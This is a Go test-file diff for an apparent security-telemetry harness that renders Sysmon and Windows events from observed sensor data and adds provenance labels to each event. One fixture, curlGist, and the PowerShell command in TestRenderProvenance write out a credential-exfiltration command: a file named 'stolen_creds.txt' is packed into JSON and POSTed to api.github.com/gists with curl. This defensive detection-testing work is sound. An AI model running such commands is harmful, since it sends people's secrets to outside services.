@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"fmt"
 	"github.com/t1567001/harness/event"
+	"io"
 	"io/fs"
 	"os"
 	"path/filepath"
@@ -109,7 +110,7 @@ func TestRenderGitPush(t *testing.T) {
 	assert.Equal(t, "::ffff:140.82.112.3;", get(dns[0], "QueryResults"))
 
 	for _, e := range events {
-		assert.False(t, e.Simulated, "a real run is not marked simulated")
+		assert.NotEqual(t, event.Simulated, e.Provenance, "a real run is not marked simulated")
 	}
 	files := byID(events, 11)
 	require.Len(t, files, 1, "only files under the work or home directory")
@@ -168,15 +169,15 @@ func TestRenderSimulatedPowerShell(t *testing.T) {
 	assert.Equal(t, get(procs[0], "ProcessGuid"), get(net[0], "ProcessGuid"), "the replay's connection is powershell.exe's")
 	assert.Equal(t, "api.github.com", get(net[0], "DestinationHostname"))
 	for _, e := range events {
-		assert.True(t, e.Simulated, "event %d of a simulated test says so", e.EventID)
+		assert.Equal(t, event.Simulated, e.Provenance, "event %d of a simulated test says so", e.EventID)
 	}
 	var buf bytes.Buffer
 	require.NoError(t, WriteJSONL(&buf, events[:1]))
-	assert.Contains(t, buf.String(), `"harness_simulated":true`)
+	assert.Contains(t, buf.String(), `"harness_provenance":"simulated"`)
 	back, err := ReadJSONL(&buf)
 	require.NoError(t, err)
 	require.Len(t, back, 1)
-	assert.True(t, back[0].Simulated)
+	assert.Equal(t, event.Simulated, back[0].Provenance)
 	buf.Reset()
 	require.NoError(t, WriteXML(&buf, events[:1]))
 	assert.NotContains(t, buf.String(), "simulated", "the XML keeps exactly the shape of real events")
@@ -203,16 +204,37 @@ func TestRenderedXMLParsesBack(t *testing.T) {
 	obs, ledger := gitPush()
 	events, err := Render(profile(t, "ci-runner"), Input{RunID: "r", Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "git push", WorkDir: "/w"})
 	require.NoError(t, err)
-	var buf bytes.Buffer
+	var buf, side bytes.Buffer
 	require.NoError(t, WriteXML(&buf, events))
+	assert.NotContains(t, buf.String(), "harness_", "the XML keeps exactly the shape of real events")
+	require.NoError(t, WriteProvenance(&side, events))
 	back, err := ReadXML(&buf)
 	require.NoError(t, err)
 	require.Len(t, back, len(events))
 	for i := range events {
 		want := events[i]
-		want.RunID = "" // the XML keeps exactly the shape of real events
+		want.RunID, want.Provenance, want.Observations, want.ModelledFields, want.Context = "", "", nil, nil, ""
 		assert.Equal(t, want, back[i])
 	}
+	require.NoError(t, ApplyProvenance("events.provenance.jsonl", &side, back))
+	assert.Equal(t, events, back, "the sidecar restores what each event rests on")
+}
+
+func TestApplyProvenanceErrors(t *testing.T) {
+	events := []event.Event{{Computer: "H", Channel: event.SysmonChannel, RecordID: 7}}
+	for name, tc := range map[string]struct{ line, want string }{
+		"unknown event":  {`{"Computer":"H","Channel":"Security","EventRecordID":7,"harness_provenance":"observed"}`, "side:2: no event on H in Security"},
+		"bad provenance": {`{"Computer":"H","Channel":"Microsoft-Windows-Sysmon/Operational","EventRecordID":7,"harness_provenance":"guessed"}`, `side:2: provenance "guessed"`},
+		"bad json":       {`{`, "side:2:"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			err := ApplyProvenance("side", strings.NewReader("\n"+tc.line+"\n"), events)
+			assert.ErrorContains(t, err, tc.want)
+		})
+	}
+	dup := []event.Event{events[0], events[0]}
+	dup[0].Provenance, dup[1].Provenance = event.Observed, event.Declared
+	assert.ErrorContains(t, WriteProvenance(io.Discard, dup), "EventRecordID 7")
 }
 
 func TestProfiles(t *testing.T) {
@@ -341,4 +363,79 @@ func BenchmarkRender(b *testing.B) {
 		n += len(events)
 	}
 	b.ReportMetric(float64(n)/b.Elapsed().Seconds(), "events/s")
+}
+
+// curlGist is the curl atomic as the sensor sees it: sh runs sed and awk
+// to build the JSON, then curl, which connects through the proxy.
+func curlGist() ([]sensor.Observation, []emulator.Entry) {
+	s := &scenario{t0: time.Date(2026, 11, 23, 10, 0, 0, 0, time.UTC)}
+	s.add(0, sensor.Observation{Kind: "exec", PID: 400, PPID: 1, Exe: "/usr/bin/dash", Argv: []string{"sh", "-c", "printf ... | curl ..."}, Cwd: "/w"})
+	s.add(1, sensor.Observation{Kind: "exec", PID: 401, PPID: 400, Exe: "/usr/bin/sed", Argv: []string{"sed", "-e", `s/"/\\"/g`, "stolen_creds.txt"}, Cwd: "/w"})
+	s.add(2, sensor.Observation{Kind: "exec", PID: 402, PPID: 400, Exe: "/usr/bin/mawk", Argv: []string{"awk", `{printf "%s\\n", $0}`}, Cwd: "/w"})
+	s.add(3, sensor.Observation{Kind: "file", PID: 400, Path: "/w/gist.json", Created: true, Result: "ok"})
+	s.add(4, sensor.Observation{Kind: "exec", PID: 403, PPID: 400, Exe: "/usr/bin/curl", Argv: []string{"curl", "-X", "POST", "https://api.github.com/gists", "-d", "@gist.json"}, Cwd: "/w"})
+	s.add(5, sensor.Observation{Kind: "connect", PID: 403, RemoteIP: "127.0.0.1", RemotePort: 3128, LocalIP: "127.0.0.1", LocalPort: 40003, Result: "ok", Proto: "tcp"})
+	ledger := []emulator.Entry{{Seq: 9, Method: "CONNECT", Path: "api.github.com:443", Host: "api.github.com", ClientIP: "127.0.0.1", ClientPort: 40003, Status: 200}}
+	return s.obs, ledger
+}
+
+func TestRenderProvenance(t *testing.T) {
+	obs, ledger := curlGist()
+	command := `@{...} | Set-Content gist.json; curl.exe -X POST https://api.github.com/gists -d "@gist.json"`
+	events, err := Render(profile(t, "workstation"), Input{Observations: obs, Ledger: ledger, Shell: "powershell", Command: command, WorkDir: "/w"})
+	require.NoError(t, err)
+	procs := byID(events, 1)
+	require.Len(t, procs, 2, "powershell.exe stands for sh, sed and awk; curl.exe is the one program it names")
+	shell, curl := procs[0], procs[1]
+	assert.Equal(t, event.Declared, shell.Provenance)
+	assert.Equal(t, []string{"obs-1", "obs-2", "obs-3"}, shell.Observations, "the declared shell lists the observed processes it stands for")
+	assert.Equal(t, "-", get(shell, "Hashes"), "no Linux binary's hashes on a declared Windows image")
+	assert.Subset(t, shell.ModelledFields, []string{"ParentImage", "ParentCommandLine"}, "Explorer, the profile's parent, is modelled")
+	assert.Equal(t, event.Observed, curl.Provenance)
+	assert.Equal(t, []string{"obs-5"}, curl.Observations)
+	assert.Equal(t, []string{"ProcessGuid", "ProcessId", "ParentProcessGuid", "ParentProcessId", "ParentImage", "ParentCommandLine"}, curl.ModelledFields)
+	assert.Contains(t, get(curl, "Hashes"), "SHA256=", "an observed process carries the hashes of the binary that ran")
+	assert.Equal(t, get(shell, "ProcessGuid"), get(curl, "ParentProcessGuid"))
+	for _, e := range byID(events, 4688) {
+		assert.Contains(t, []event.Provenance{event.Declared, event.Observed}, e.Provenance)
+	}
+	sb := byID(events, 4104)
+	require.Len(t, sb, 1)
+	assert.Equal(t, event.Declared, sb[0].Provenance)
+
+	net := byID(events, 3)
+	require.Len(t, net, 1)
+	assert.Equal(t, event.Observed, net[0].Provenance)
+	assert.Equal(t, []string{"obs-6", "ledger-9"}, net[0].Observations)
+	assert.Subset(t, net[0].ModelledFields, []string{"DestinationIp", "SourceIp", "ProcessGuid"}, "the profile's address stands for the proxy's")
+	assert.NotContains(t, net[0].ModelledFields, "Image", "curl.exe itself was observed")
+	dns := byID(events, 22)
+	require.Len(t, dns, 1)
+	assert.Equal(t, event.Modelled, dns[0].Provenance, "no query was seen, only the name asked of the proxy")
+	files := byID(events, 11)
+	require.Len(t, files, 1)
+	assert.Equal(t, event.Observed, files[0].Provenance)
+	assert.Contains(t, files[0].ModelledFields, "Image", "the file was created by sh, which the declared shell stands for")
+	for _, e := range events {
+		assert.Equal(t, "workstation", e.Context)
+		assert.NotEmpty(t, e.Observations, "event %d lists its observations", e.EventID)
+	}
+}
+
+func TestRenderLauncherIsModelled(t *testing.T) {
+	obs, ledger := gitPush()
+	events, err := Render(profile(t, "workstation"), Input{Observations: obs, Ledger: ledger, Shell: "command_prompt", Command: "git push --force https://github.com/o/r.git", WorkDir: "/w"})
+	require.NoError(t, err)
+	procs := byID(events, 1)
+	require.Len(t, procs, 5)
+	want := map[string]event.Provenance{
+		`C:\Windows\System32\cmd.exe`:              event.Declared,
+		`C:\Program Files\Git\cmd\git.exe`:         event.Modelled,
+		`C:\Program Files\Git\mingw64\bin\git.exe`: event.Observed,
+	}
+	for _, p := range procs[:3] {
+		assert.Equal(t, want[get(p, "Image")], p.Provenance, get(p, "Image"))
+	}
+	assert.Equal(t, "-", get(procs[1], "Hashes"), "the modelled launcher has no Linux hashes")
+	assert.Equal(t, procs[1].Observations, procs[2].Observations, "the launcher rests on git's exec")
 }
